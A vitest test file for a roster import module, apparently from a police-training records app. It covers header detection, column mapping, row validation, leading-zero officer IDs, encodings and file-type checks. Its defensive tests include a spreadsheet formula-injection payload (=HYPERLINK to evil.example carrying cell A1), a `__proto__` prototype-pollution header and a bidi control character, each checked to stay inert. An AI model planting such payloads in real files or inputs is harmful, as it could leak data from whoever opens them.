// Reading a roster file: the header row and its columns found by name, row errors with their lines,
// officer IDs kept as text, encodings, and formulas and `__proto__` headers as plain text.
import { describe, expect, it } from 'vitest';
import { importProblem, rosterKind, rosterWorkerPath } from '../../main/records/roster';
import { XLSX_MIME } from '../../shared/roster';
import { preview, protoKeys, xlsx } from '../helpers/roster';

describe('roster columns', () => {
  it('finds the header row and the columns by their names', async () => {
    const p = await preview(
      'Name,Officer ID,Agency,Email\r\nAna Ortiz,00417,Austin PD,ana@example.org\r\nBen Lee,B-22,Travis SO,\r\n',
    );
    expect(p.columns).toEqual(['Name', 'Officer ID', 'Agency', 'Email']);
    expect(p.mapping).toEqual({ name: 0, officerId: 1, agency: 2, email: 3 });
    expect(p.errors).toEqual([]);
    expect(p.rows).toEqual([
      {
        line: 2,
        name: 'Ana Ortiz',
        officerId: '00417',
        agency: 'Austin PD',
        email: 'ana@example.org',
        firstName: '',
        lastName: '',
      },
      {
        line: 3,
        name: 'Ben Lee',
        officerId: 'B-22',
        agency: 'Travis SO',
        email: '',
        firstName: '',
        lastName: '',
      },
    ]);
  });

  it('knows first + last name, state IDs (TCOLE PID, POST ID), badge, department; skips title lines above the header', async () => {
    const p = await preview(
      'Human trafficking in-service,,,\n\nLast Name,First Name,TCOLE PID,Department\nOrtiz,Ana,0012345,Austin PD\n',
    );
    expect(p.headerLine).toBe(3);
    expect(p.mapping).toEqual({ lastName: 0, firstName: 1, officerId: 2, agency: 3 });
    // The roster's own last and first names are kept for the certification roster.
    expect(p.rows).toEqual([
      {
        line: 4,
        name: 'Ana Ortiz',
        officerId: '0012345',
        agency: 'Austin PD',
        email: '',
        firstName: 'Ana',
        lastName: 'Ortiz',
      },
    ]);
    expect((await preview('Student;POST ID;Badge #\nAna;1908-3538;77\n')).mapping).toEqual({
      name: 0,
      officerId: 1,
    });
    expect((await preview('Name\tBadge No.\tAgency\nAna\t77\tX\n')).rows[0]).toMatchObject({
      officerId: '77',
      agency: 'X',
    });
    expect((await preview('Trainee,PID\nAna,1\n')).mapping).toEqual({ name: 0, officerId: 1 });
  });

  it('an explicit mapping overrides the detected one; null unmaps a column', async () => {
    const csv = 'Who,Number,Where,Badge\nAna,00417,Austin PD,9\n';
    const auto = await preview(csv);
    expect(auto.mapping).toEqual({ officerId: 3 });
    expect(auto.errors.map((e) => e.message).join()).toMatch(/no name column/);
    const p = await preview(csv, 'csv', { name: 0, officerId: 1, agency: 2 });
    expect(p.errors).toEqual([]);
    expect(p.rows).toEqual([
      {
        line: 2,
        name: 'Ana',
        officerId: '00417',
        agency: 'Austin PD',
        email: '',
        firstName: '',
        lastName: '',
      },
    ]);
    expect(
      (await preview('Name,Officer ID,Agency\nAna,1,X\n', 'csv', { agency: null })).rows[0].agency,
    ).toBe('');
    const bad = await preview(csv, 'csv', { name: 0, officerId: 12 });
    expect(bad.errors[0].message).toMatch(/Officer ID: the file has no column M/);
    expect(bad.rows).toEqual([]);
  });

  it('lists row errors with their lines: missing or duplicate officer ID, name too long, control characters, bad email', async () => {
    const long = 'x'.repeat(81);
    const csv = [
      'Name,Officer ID,Agency,Email',
      'Ana Ortiz,00417,Austin PD,',
      'No Id,,Austin PD,',
      'Dup,  00417 ,Austin PD,',
      `${long},9,X,`,
      '"Tab\tName",10,X,',
      '"Two\nLines",11,X,',
      ',12,X,',
      'Eve,13,X,not-an-email',
      'Bidi\u202eevil,14,X,',
      ',,,',
      'Fine,15,X,',
    ].join('\n');
    const p = await preview(csv);
    expect(p.rows.map((r) => [r.line, r.name])).toEqual([
      [2, 'Ana Ortiz'],
      [13, 'Fine'],
    ]);
    expect(p.errors).toEqual([
      { line: 3, message: 'no officer ID' },
      { line: 4, message: 'officer ID 00417 is already on line 2' },
      { line: 5, message: 'name is longer than 80 characters' },
      { line: 6, message: expect.stringMatching(/^name contains a control character/) },
      { line: 7, message: expect.stringMatching(/^name contains a control character/) },
      { line: 9, message: 'no name' },
      { line: 10, message: 'email “not-an-email” is not an email address' },
      { line: 11, message: expect.stringMatching(/^name contains a control character/) },
    ]);
    expect(p.total).toBe(10);
    expect(importProblem(p, false)).toBe(
      '8 rows have errors; fix the file, or import the 2 valid rows only',
    );
    expect(importProblem(p, true)).toBeNull();
  });

  it('officer IDs stay text with their leading zeros, in CSV and in XLSX', async () => {
    expect((await preview('Name,Officer ID\nAna,00417\n')).rows[0].officerId).toBe('00417');
    const book = xlsx(
      [
        ['Name', 'Officer ID'],
        ['Ana', '00417'],
        ['Ben', 42],
      ],
      (ws) => {
        // A number shown with leading zeros, as records staff format ID columns.
        ws.B3.z = '00000';
        delete ws.B3.w;
      },
    );
    const p = await preview(book, 'xlsx');
    expect(p.errors).toEqual([]);
    expect(p.rows.map((r) => r.officerId)).toEqual(['00417', '00042']);
  });

  it('a formula is just text: =HYPERLINK(…) in a CSV cell stays that text', async () => {
    const p = await preview(
      'Name,Officer ID,Agency\n"=HYPERLINK(""http://evil.example/?x=""&A1,""Ana"")",=1+1,@SUM(A1)\n',
    );
    expect(p.errors).toEqual([]);
    expect(p.rows[0]).toMatchObject({
      name: '=HYPERLINK("http://evil.example/?x="&A1,"Ana")',
      officerId: '=1+1',
      agency: '@SUM(A1)',
    });
    const book = xlsx([
      ['Name', 'Officer ID'],
      ['=HYPERLINK("http://evil.example","Ana")', '0042'],
    ]);
    expect((await preview(book, 'xlsx')).rows[0]).toMatchObject({
      name: '=HYPERLINK("http://evil.example","Ana")',
      officerId: '0042',
    });
  });

  it('reads UTF-8 with a BOM, Windows-1252, and Excel’s sep= line', async () => {
    const bom = Buffer.concat([
      Buffer.from([0xef, 0xbb, 0xbf]),
      Buffer.from('Name,Officer ID\nJosé Núñez,1\n'),
    ]);
    expect((await preview(bom)).rows[0].name).toBe('José Núñez');
    const ansi = Buffer.from('Name;Officer ID\nJos\xe9;1\n', 'latin1');
    expect((await preview(ansi)).rows[0].name).toBe('José');
    expect((await preview('sep=;\nName;Officer ID\nAna;1\n')).rows[0]).toMatchObject({
      line: 3,
      name: 'Ana',
      officerId: '1',
    });
  });

  it('a `__proto__` header is just a column name: rows are arrays, never objects keyed by headers', async () => {
    const before = protoKeys();
    const p = await preview('__proto__,Name,constructor,Officer ID\n{"a":1},Ana,prototype,7\n');
    expect(p.columns).toEqual(['__proto__', 'Name', 'constructor', 'Officer ID']);
    expect(p.rows).toEqual([
      { line: 2, name: 'Ana', officerId: '7', agency: '', email: '', firstName: '', lastName: '' },
    ]);
    expect(protoKeys()).toEqual(before);
  });

  it('the content type and first bytes decide how a file is read', () => {
    expect(rosterKind(Buffer.from('a,b'), 'text/csv; charset=utf-8')).toEqual({
      ok: true,
      kind: 'csv',
    });
    expect(rosterKind(xlsx([['a']]), XLSX_MIME)).toEqual({ ok: true, kind: 'xlsx' });
    expect(rosterKind(Buffer.from('a,b'), XLSX_MIME)).toMatchObject({
      ok: false,
      message: expect.stringMatching(/not an XLSX workbook/),
    });
    expect(
      rosterKind(Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0, 0]), 'application/vnd.ms-excel'),
    ).toMatchObject({ ok: false, message: expect.stringMatching(/\.xls/) });
    expect(rosterKind(Buffer.from('a'), 'application/json')).toMatchObject({
      ok: false,
      message: expect.stringMatching(/send a \.csv or \.xlsx file/),
    });
  });

  it('the worker script is found from the source tree', () => {
    expect(rosterWorkerPath()).toMatch(/main[\\/]records[\\/]roster-worker\.mjs$/);
  });
});
